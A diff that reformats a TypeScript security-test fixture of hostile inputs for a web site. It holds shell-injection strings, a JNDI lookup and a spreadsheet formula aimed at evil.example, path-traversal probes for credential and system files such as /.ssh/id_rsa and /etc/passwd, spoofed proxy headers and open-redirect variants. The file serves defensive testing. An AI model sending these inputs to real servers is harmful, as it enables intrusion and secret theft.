@@ -62,7 +62,7 @@ export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] =
   ["SQL with a cast", "1::regclass"],
   ["a shell", "$(touch /tmp/x); `id`"],
   ["a lookup", "${jndi:ldap://evil.example/a}"],
-  ["a formula", "=HYPERLINK(\"https://evil.example\")"],
+  ["a formula", '=HYPERLINK("https://evil.example")'],
   ["an evil pattern", `${"a".repeat(60)}!`],
   ["an evil address", `${"a.".repeat(120)}@`],
   ["a deep array", `${"[".repeat(400)}${"]".repeat(400)}`],
@@ -71,18 +71,57 @@ export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] =
 
 /** Paths that vulnerability scanners probe on every server. */
 export const PROBED_PATHS: readonly string[] = [
-  ..."/.env /.env.local /.env.production /.env.bak /.git/HEAD /.git/config /.git/index /.gitignore /.github/workflows/ci.yml /.svn/entries /.hg/store /.DS_Store /.npmrc /.htaccess /.htpasswd /.ssh/id_rsa /.aws/credentials /.docker/config.json /.vscode/settings.json /.idea/workspace.xml".split(" "),
-  ..."/package.json /package-lock.json /tsconfig.json /vite.config.ts /react-router.config.ts /drizzle.config.ts /README.md /Dockerfile /Containerfile /compose.yaml /docker-compose.yml /node_modules/react/package.json /server/app.ts /server/start.ts /app/root.tsx /app/routes.ts /content/site.yaml /content/feeds.yaml /content/kit/built/en.pdf /scripts/start.ts".split(" "),
-  ..."/build/server/index.js /build/client/index.html /assets/ /assets/../../server/index.js /assets/..%2f..%2fserver%2findex.js /.vite/manifest.json /assets/manifest.json /assets/vendor.js.map /assets/root.js.map /server-build.js.map /index.js.map /manifest.webmanifest.map /assets/style.css.map /assets/.vite/manifest.json /assets/none.css.br /assets/none.js.gz /.data/secret /.data/lock.json /data/postgres/PG_VERSION /outbox/".split(" "),
-  ..."/@fs/etc/passwd /@fs/etc/passwd?raw /@fs/etc/passwd?import&raw?? /@id/app/root.tsx /@vite/client /@react-refresh /__vite_ping /__manifest /__manifest?p=/&version=1 /__inspect/ /app/root.tsx?raw /server/app.ts?url /src/main.tsx /admin /wp-login.php /wp-admin/install.php /phpinfo.php /server-status /actuator/env /debug/pprof /console /graphql /api/.env /api/../.env /api/v1/users /api/debug /metrics/../.env /etc/passwd /..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/etc/passwd".split(" "),
+  ..."/.env /.env.local /.env.production /.env.bak /.git/HEAD /.git/config /.git/index /.gitignore /.github/workflows/ci.yml /.svn/entries /.hg/store /.DS_Store /.npmrc /.htaccess /.htpasswd /.ssh/id_rsa /.aws/credentials /.docker/config.json /.vscode/settings.json /.idea/workspace.xml".split(
+    " ",
+  ),
+  ..."/package.json /package-lock.json /tsconfig.json /vite.config.ts /react-router.config.ts /drizzle.config.ts /README.md /Dockerfile /Containerfile /compose.yaml /docker-compose.yml /node_modules/react/package.json /server/app.ts /server/start.ts /app/root.tsx /app/routes.ts /content/site.yaml /content/feeds.yaml /content/kit/built/en.pdf /scripts/start.ts".split(
+    " ",
+  ),
+  ..."/build/server/index.js /build/client/index.html /assets/ /assets/../../server/index.js /assets/..%2f..%2fserver%2findex.js /.vite/manifest.json /assets/manifest.json /assets/vendor.js.map /assets/root.js.map /server-build.js.map /index.js.map /manifest.webmanifest.map /assets/style.css.map /assets/.vite/manifest.json /assets/none.css.br /assets/none.js.gz /.data/secret /.data/lock.json /data/postgres/PG_VERSION /outbox/".split(
+    " ",
+  ),
+  ..."/@fs/etc/passwd /@fs/etc/passwd?raw /@fs/etc/passwd?import&raw?? /@id/app/root.tsx /@vite/client /@react-refresh /__vite_ping /__manifest /__manifest?p=/&version=1 /__inspect/ /app/root.tsx?raw /server/app.ts?url /src/main.tsx /admin /wp-login.php /wp-admin/install.php /phpinfo.php /server-status /actuator/env /debug/pprof /console /graphql /api/.env /api/../.env /api/v1/users /api/debug /metrics/../.env /etc/passwd /..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/etc/passwd".split(
+    " ",
+  ),
 ];
 
 /** Headers that control frameworks and proxies; the site must ignore all of them. */
 export const SPOOFED_HEADERS: readonly (readonly [name: string, value: string])[] = [
-  ...["x-react-router-data", "x-react-router-prerender-data", "x-react-router-spa-mode", "x-remix-request", "x-remix-response", "x-remix-redirect", "x-remix-reload-document", "x-remix-replace"].map((name) => [name, "yes"] as const),
-  ...["x-middleware-rewrite", "x-middleware-redirect", "x-middleware-next", "x-middleware-subrequest", "x-middleware-override-headers", "x-middleware-prefetch"].map((name) => [name, "middleware:middleware:/evil.example"] as const),
-  ...["next-action", "next-router-state-tree", "next-url", "rsc", "rsc-action-id", "x-nextjs-data", "x-invoke-path", "x-invoke-status"].map((name) => [name, "evil.example"] as const),
-  ...["x-forwarded-host", "x-forwarded-proto", "x-forwarded-port", "x-forwarded-prefix", "x-forwarded-server", "x-host", "x-original-url", "x-original-host", "x-rewrite-url", "x-http-method-override", "forwarded", "x-http-method"].map((name) => [name, "evil.example"] as const),
+  ...[
+    "x-react-router-data",
+    "x-react-router-prerender-data",
+    "x-react-router-spa-mode",
+    "x-remix-request",
+    "x-remix-response",
+    "x-remix-redirect",
+    "x-remix-reload-document",
+    "x-remix-replace",
+  ].map((name) => [name, "yes"] as const),
+  ...[
+    "x-middleware-rewrite",
+    "x-middleware-redirect",
+    "x-middleware-next",
+    "x-middleware-subrequest",
+    "x-middleware-override-headers",
+    "x-middleware-prefetch",
+  ].map((name) => [name, "middleware:middleware:/evil.example"] as const),
+  ...["next-action", "next-router-state-tree", "next-url", "rsc", "rsc-action-id", "x-nextjs-data", "x-invoke-path", "x-invoke-status"].map(
+    (name) => [name, "evil.example"] as const,
+  ),
+  ...[
+    "x-forwarded-host",
+    "x-forwarded-proto",
+    "x-forwarded-port",
+    "x-forwarded-prefix",
+    "x-forwarded-server",
+    "x-host",
+    "x-original-url",
+    "x-original-host",
+    "x-rewrite-url",
+    "x-http-method-override",
+    "forwarded",
+    "x-http-method",
+  ].map((name) => [name, "evil.example"] as const),
   ["x-forwarded-for", "203.0.113.7, 127.0.0.1"],
   ["x-real-ip", "127.0.0.1"],
   ["cf-connecting-ip", "127.0.0.1"],
@@ -96,8 +135,26 @@ export const SPOOFED_HEADERS: readonly (readonly [name: string, value: string])[
 /** Open-redirect attempts in paths. */
 export const REDIRECT_PATHS: readonly string[] = ["", "/en", "/de"].flatMap((prefix) =>
   [
-    "//evil.example", "///evil.example", "////evil.example//", "/\\evil.example", "\\/evil.example", "/\\/evil.example", "\\\\evil.example", "//evil.example/..", "/%2fevil.example", "/%2f%2fevil.example/",
-    "/%5cevil.example/", "/%09/evil.example", "/%0d%0aLocation:%20//evil.example", "//evil.example%2f..", "/.//evil.example/", "/..//evil.example", "/;//evil.example", "//user@evil.example/", "/?//evil.example", "//evil.example/en/",
+    "//evil.example",
+    "///evil.example",
+    "////evil.example//",
+    "/\\evil.example",
+    "\\/evil.example",
+    "/\\/evil.example",
+    "\\\\evil.example",
+    "//evil.example/..",
+    "/%2fevil.example",
+    "/%2f%2fevil.example/",
+    "/%5cevil.example/",
+    "/%09/evil.example",
+    "/%0d%0aLocation:%20//evil.example",
+    "//evil.example%2f..",
+    "/.//evil.example/",
+    "/..//evil.example",
+    "/;//evil.example",
+    "//user@evil.example/",
+    "/?//evil.example",
+    "//evil.example/en/",
     "/%2e//evil.example/",
   ].map((rest) => `${prefix}${rest}`),
 );
